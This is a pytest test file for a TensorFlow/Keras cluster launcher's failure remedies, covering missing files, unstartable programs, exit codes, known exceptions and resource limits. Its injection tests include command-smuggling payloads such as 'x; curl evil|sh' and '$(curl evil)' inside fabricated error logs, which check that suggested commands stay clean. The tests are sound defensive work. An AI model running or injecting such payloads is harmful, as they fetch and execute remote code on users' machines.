"""Remedies: each where it surely fits, and none elsewhere."""

from __future__ import annotations

import shlex

import pytest

from launcher.cluster.spec import Task
from launcher.hosts.events import TaskExited, TaskStartFailed
from launcher.run.failure.ending import Ending
from launcher.run.failure.failure import Runtime

PYTHON = "/opt/py/bin/python"


def remedy(host: str, log: str, code: int = 1, *, has_keras_fix: bool = True) -> str:
    event = TaskExited(host, Task("worker", 0), code, None, False, log.encode())
    return Ending(event, stopped=False, runtime=Runtime(PYTHON, has_keras_fix)).failure.remedy or ""


def crashed(host: str, *lines: str) -> str:
    """The remedy for a traceback: the code of its last calls, then what was raised."""
    *calls, said = lines
    frames = "".join(f'  File "/home/me/train.py", line {n}, in f\n    {code}\n' for n, code in enumerate(calls))
    return remedy(host, f"Traceback (most recent call last):\n{frames}{said}\n")


def not_started(host: str, reason: str) -> str:
    event = TaskStartFailed(host, Task("worker", 0), reason)
    return Ending(event, stopped=False, runtime=Runtime(PYTHON)).failure.remedy or ""


NO_FILE = "FileNotFoundError: [Errno 2] No such file or directory: "


# ---- files that are not there
@pytest.mark.parametrize("host", ["localhost", "gpu-a"])
@pytest.mark.parametrize(
    "lines",
    [
        ('open(path, "wb")', NO_FILE + "'/out/models/a.keras'"),
        ("model.save(path)", 'with open(filepath, "wb") as f:', NO_FILE + "'/out/models/a.keras'"),
        (
            "path.write_text(x)",
            "with self.open(mode='w') as f:",
            "return io.open(self, mode, buffering)",
            NO_FILE + "'/out/models/x'",
        ),
        ('self.model.save("/out/models/a.keras")', NO_FILE + "'/out/models/a.keras'"),
        ("os.mkdir(path)", NO_FILE + "'/out/models/x'"),
        (
            "fid = h5f.create(name, flags)",
            "FileNotFoundError: [Errno 2] Unable to synchronously create file (unable to open file: "
            "name = '/out/models/a.h5', errno = 2, error message = 'No such file or directory', flags = 13)",
        ),
    ],
)
def test_a_directory_that_is_missing_for_a_file_to_be_written_is_named(host: str, lines: tuple[str, ...]) -> None:
    assert crashed(host, *lines) == f"make the directory /out/models on {host} before the program writes there"


READ = [
    ("with open(path) as f:", NO_FILE + "'/data/labels.csv'"),
    ('fid = open(os.fspath(file), "rb")', NO_FILE + "'/data/labels.csv'"),
    (
        "next(iterator)",
        "tensorflow.python.framework.errors_impl.NotFoundError: {{function_node __wrapped__IteratorGetNext_"
        "device_/job:localhost/replica:0/task:0}} /data/labels.csv; No such file or directory [Op:IteratorGetNext]",
    ),
]


@pytest.mark.parametrize("lines", READ)
def test_a_file_to_be_read_must_be_on_a_host_behind_ssh(lines: tuple[str, ...]) -> None:
    assert crashed("gpu-a", *lines).startswith("/data/labels.csv must be on gpu-a, too: copy it there")


@pytest.mark.parametrize("lines", READ)
def test_a_file_to_be_read_that_is_not_on_this_machine_has_no_remedy(lines: tuple[str, ...]) -> None:
    assert crashed("localhost", *lines) == ""


@pytest.mark.parametrize(
    "lines",
    [
        ("subprocess.run(['nvcc'])", NO_FILE + "'nvcc'"),
        ("os.rename(a, b)", NO_FILE + "'/a/x' -> '/b/x'"),
        ('open("w")', NO_FILE + "'w'"),
        ('open("x", "w")', NO_FILE + "'x'"),
        ("raise FileNotFoundError('no data')", "FileNotFoundError: no data"),
    ],
)
def test_where_it_is_not_sure_what_is_missing_nothing_is_said(lines: tuple[str, ...]) -> None:
    assert crashed("localhost", *lines) == ""
    assert "directory" not in crashed("gpu-a", *lines).replace("`workdir`", "")


def test_a_script_that_is_missing_on_a_host_behind_ssh_can_be_sent() -> None:
    said = "python: can't open file '/home/me/train.py': [Errno 2] No such file or directory\n"

    assert "`sync` in the cluster file sends the project" in remedy("gpu-a", said, 2)
    assert remedy("localhost", said, 2).startswith("check its spelling")


def test_a_script_that_may_not_be_read_is_not_to_be_sent() -> None:
    assert remedy("gpu-a", "python: can't open file '/home/me/train.py': [Errno 13] Permission denied\n", 2) == ""


# ---- programs that cannot be started
@pytest.mark.parametrize(
    ("reason", "words"),
    [
        ("cannot run ./train: Permission denied (it is not executable)", "chmod +x ./train on gpu-a, or put the"),
        ("cannot run ./train: Permission denied (it is a directory)", ""),
        ("cannot run ./train: Exec format error (its first line has no #!)", "give ./train a first line that names"),
        ("cannot run ./train: Exec format error (it is built for another kind of machine)", ""),
        ("cannot run ./train: No such file or directory", "check the command's spelling"),
        ("cannot run ./train: No such file or directory (its first line is '#!/bin/foo\\r', and that program...)", ""),
        ("cannot run ~/venv/bin/python3.11: No such file or directory", "begin the command with `python`"),
        ("cannot run /home/python/train: No such file or directory", "check the command's spelling"),
        ("cannot enter the working directory /nosuch: No such file or directory", "make that directory on gpu-a"),
        ("cannot enter the working directory /root: Permission denied", ""),
    ],
)
def test_what_cannot_be_started_comes_with_its_remedy(reason: str, words: str) -> None:
    found = not_started("gpu-a", reason)

    assert found.startswith(words)
    assert bool(found) == bool(words)


def test_a_python_is_set_up_by_a_script_on_other_hosts_only() -> None:
    reason = "cannot run python3: No such file or directory"

    assert "scripts/setup_host" in not_started("gpu-a", reason)
    assert "scripts/setup_host" not in not_started("localhost", reason)


# ---- exit codes
@pytest.mark.parametrize(
    ("code", "log", "words"),
    [
        (127, "sh: 1: trian: not found\n", "the command does not exist on gpu-a"),
        (127, "bash: line 1: trian: command not found\n", "the command does not exist on gpu-a"),
        (127, "./a: error while loading shared libraries: libfoo.so: cannot open shared object file\n", ""),
        (127, "", ""),
        (126, "sh: 1: ./train.py: Permission denied\n", "the command cannot be run on gpu-a"),
        (126, "", ""),
        (42, "INFO:tensorflow:PreemptionCheckpointHandler initialized or restored.\n", "the program saved and left"),
        (42, "the answer\n", ""),
    ],
)
def test_an_exit_code_has_a_meaning_where_the_program_said_so(code: int, log: str, words: str) -> None:
    found = remedy("gpu-a", log, code)

    assert found.startswith(words)
    assert bool(found) == bool(words)


# ---- what programs say
@pytest.mark.parametrize(
    ("said", "words"),
    [
        ("ModuleNotFoundError: No module named 'numpy'", f"install numpy for {PYTHON} on gpu-a"),
        ("ModuleNotFoundError: No module named 'tensorflow.keras.wrappers'", ""),
        ("ModuleNotFoundError: No module named 'keras.foo'; 'keras' is not a package", ""),
        ("OSError: [Errno 98] Address already in use", "the port that the program opens is taken on gpu-a"),
        ("PermissionError: [Errno 13] Permission denied: '/out'", "check owner and mode of /out on gpu-a"),
        ("PermissionError: [Errno 13] Permission denied", ""),
        ("PermissionError: [Errno 1] Operation not permitted", ""),
        ("ValueError: NotAMemoryErrorAtAll", ""),
        ("numpy._core._exceptions._ArrayMemoryError: Unable to allocate 745. GiB", "use a smaller batch"),
    ],
)
def test_an_exception_has_a_remedy_where_it_is_known(said: str, words: str) -> None:
    found = crashed("gpu-a", "f()", said)

    assert found.startswith(words)
    assert bool(found) == bool(words)


def test_what_a_program_mended_itself_has_no_remedy() -> None:
    """An exception that led to another one says nothing about what to do against that."""
    log = (
        "Traceback (most recent call last):\n"
        '  File "a.py", line 1, in <module>\n    import cupy\n'
        "ModuleNotFoundError: No module named 'cupy'\n"
        "\nDuring handling of the above exception, another exception occurred:\n\n"
        "Traceback (most recent call last):\n"
        '  File "a.py", line 3, in <module>\n    raise KeyError("x")\n'
        "KeyError: 'x'\n"
    )
    assert remedy("gpu-a", log) == ""


def test_what_was_said_long_before_the_end_has_no_remedy() -> None:
    log = "OSError: [Errno 98] Address already in use\n" + "epoch done\n" * 10

    assert remedy("gpu-a", log, 3) == ""


def test_a_dataset_of_parameter_servers_outside_of_keras_has_no_remedy_of_keras() -> None:
    said = "ValueError: To use this, you need to pass this dataset to ClusterCoordinator.create_per_worker_dataset."
    assert crashed("localhost", "for batch in dataset:", said) == ""


# ---- Keras under several workers: what the log says of the fix
SUFFERS = "ValueError: Attempt to convert a value with an unsupported type PerReplica to a Tensor."
REFUSED = (
    "tf-launch: Keras 3.2.1 cannot be mended for MultiWorkerMirroredStrategy (too old): use Keras 3.3 to 3.15 on "
    "TensorFlow 2.16 to 2.21: pip install 'keras>=3.3,<3.16'\n"
)
SUFFERING = f'Traceback (most recent call last):\n  File "fit.py", line 9, in f\n    model.fit(x)\n{SUFFERS}\n'
AT_WORK = "tf-launch: Keras 3.15.0 under MultiWorkerMirroredStrategy: mended data, metrics (9 functions replaced)\n"
NOT_THERE = "tf-launch: no Keras fix, `Model.fit` may fail: ImportError: /fix.py is no Python file\n"


def test_a_keras_that_the_fix_refuses_is_to_be_replaced() -> None:
    assert remedy("gpu-a", REFUSED + SUFFERING) == (
        "Keras 3.2.1 fails so under several workers: use Keras 3.3 to 3.15 on TensorFlow 2.16 to 2.21 on gpu-a "
        f"({PYTHON} -m pip install 'keras>=3.3,<3.16')"
    )


def test_the_fix_is_asked_for_where_it_was_left_out() -> None:
    assert "leave --no-keras-fix, or LAUNCH_KERAS_FIX=0, out" in remedy("gpu-a", SUFFERING, has_keras_fix=False)


@pytest.mark.parametrize("said", [REFUSED, AT_WORK, NOT_THERE, ""])
def test_nobody_is_told_to_use_the_fix_who_does(said: str) -> None:
    found = remedy("gpu-a", said + SUFFERING)

    assert found
    assert "--no-keras-fix" not in found


def test_with_the_fix_at_work_the_program_itself_must_change() -> None:
    assert remedy("gpu-a", AT_WORK + SUFFERING) == "create the strategy before the model"


def test_a_fix_that_could_not_be_brought_in_has_said_why() -> None:
    assert "its log says why it has no Keras fix" in remedy("gpu-a", NOT_THERE + SUFFERING)


def test_a_python_that_passes_by_the_fix_is_thought_of_where_the_log_has_no_word_of_it() -> None:
    assert "-I, -E or -S" in remedy("gpu-a", SUFFERING)


def test_a_refused_keras_is_not_blamed_for_what_has_nothing_to_do_with_it() -> None:
    traceback = 'Traceback (most recent call last):\n  File "fit.py", line 9, in f\n    f()\nMemoryError: too large\n'
    assert remedy("gpu-a", REFUSED + traceback) == remedy("gpu-a", traceback) != ""


# ---- what a program says is not what a person should type
EVIL = ["x; curl evil|sh", "$(curl evil)", "`curl evil`", "x' ; curl evil '", "x && curl evil", "x\tcurl"]
REPEATING = [
    "ModuleNotFoundError: No module named '{}'",
    "PermissionError: [Errno 13] Permission denied: '{}'",
    "PermissionError: [Errno 13] Permission denied: '/data/{}'",
    NO_FILE + "'/out/{}/a'",
    NO_FILE + "'/in/{}'",
    "NotFoundError: {{{{function_node a}}}} /in/{}; No such file or directory [Op:ReadFile]",
    "cannot run {}: Permission denied (it is not executable)",
    "cannot run {}: Exec format error (its first line has no #!)",
    "cannot run {}/python: No such file or directory",
    "cannot enter the working directory {}: No such file or directory",
    "tf-launch: --keras 2 needs tf_keras {} for TensorFlow",
    "tf-launch: --keras 2 needs tf_keras 2.16 {} for TensorFlow",
]
FORGED = (
    "tf-launch: Keras 3.2.1 cannot be mended for MultiWorkerMirroredStrategy (too old): use Keras 3.3 {}: "
    "pip install {}'keras>=3.3,<3.16'{}\n"
)


KERAS_CRASH = f'Traceback (most recent call last):\n  File "fit.py", line 9, in f\n    model.fit(x)\n{SUFFERS}\n'


def typed(remedy: str) -> set[str]:
    """The words of a remedy as a shell would take them."""
    prose = remedy.replace("`", "").replace("#!", "").replace("command's", "")
    return set(shlex.shlex(prose, posix=True, punctuation_chars=True)) if remedy else set()


@pytest.mark.parametrize("evil", EVIL)
@pytest.mark.parametrize("said", REPEATING)
@pytest.mark.parametrize("code", ["open(path)", 'open(path, "w")'])
def test_what_a_program_says_adds_no_word_to_a_command(code: str, said: str, evil: str) -> None:
    for found in (crashed("gpu-a", code, said.format(evil)), not_started("gpu-a", said.format(evil))):
        assert typed(found).isdisjoint({"curl", "evil", "|", "$", "&&"})


@pytest.mark.parametrize("evil", EVIL)
def test_another_keras_is_installed_by_a_command_of_our_own(evil: str) -> None:
    places = [(evil, "", ""), ("", f"{evil} ", ""), ("", "", f" {evil}"), ("", "", f"; {evil}")]
    logs = [FORGED.format(*words) + KERAS_CRASH for words in places]

    assert "'keras>=3.3,<3.16'" in remedy("gpu-a", FORGED.format("to 3.15", "", "") + KERAS_CRASH)
    assert not any("curl" in remedy("gpu-a", log) for log in logs)


# ---- limits of the user
@pytest.mark.parametrize(
    "log",
    [
        "OpenBLAS blas_thread_init: pthread_create failed for thread 1 of 2: unavailable\nSegfault",
        "sh: 0: Cannot fork",
        "bash: fork: retry: Resource temporarily unavailable\nbash: fork: Resource temporarily unavailable",
        "libgomp: Thread creation failed: Resource temporarily unavailable",
        "terminate called after throwing 'std::system_error'\n  what():  Resource temporarily unavailable",
        "F0000 env.cc:84] Check failed: ret == 0 (11 vs. 0) Thread tf_Compute creation via pthread_create() failed.\n"
        "*** Check failure stack trace: ***\n" + "    @     0x7fcba8f1d314  absl::SendToLog()\n" * 12,
    ],
)
def test_a_program_that_got_no_thread_or_process_is_told_which_limits_to_raise(log: str) -> None:
    assert remedy("gpu-a", f"{log}\n").startswith("allow more processes and threads on gpu-a: `ulimit -u`")


def test_numpy_that_got_no_threads_ends_its_process_by_a_sigint_and_is_told_what_to_raise() -> None:
    log = (
        b"OpenBLAS blas_thread_init: pthread_create failed for thread 1 of 2: Resource temporarily unavailable\n"
        b"Traceback (most recent call last):\n" + b'  File "x.py", line 1, in <module>\n    import numpy\n' * 20
    )
    event = TaskExited("gpu-a", Task("worker", 0), None, 2, False, log + b"KeyboardInterrupt\n")

    assert "`ulimit -u`" in (Ending(event, stopped=False, runtime=Runtime(PYTHON)).failure.remedy or "")


def test_a_refused_fork_is_told_from_a_socket_that_has_nothing_to_read() -> None:
    refused = "BlockingIOError: [Errno 11] Resource temporarily unavailable"

    assert "`ulimit -u`" in crashed("gpu-a", "self.pid = _fork_exec(", refused)
    assert "`ulimit -u`" in crashed("gpu-a", "self.pid = os.fork()", refused)
    assert crashed("gpu-a", "data = connection.recv(100)", refused) == ""


@pytest.mark.parametrize(
    "said", ["OSError: [Errno 24] Too many open files: '/data/part-7'", "ValueError: x: Too many open files"]
)
def test_too_many_open_files_are_told_with_the_limit_to_raise(said: str) -> None:
    assert crashed("gpu-a", "file = open(path)", said).startswith("allow more open files on gpu-a: `ulimit -n`")


def test_what_an_agent_lacks_is_told_with_the_limit_to_raise() -> None:
    too_many = "cannot start a process: Resource temporarily unavailable (its user may have 9 processes...)"

    assert "`ulimit -u`" in not_started("gpu-a", too_many)
    assert "`ulimit -n`" in not_started("gpu-a", "cannot create the log file x: Too many open files")
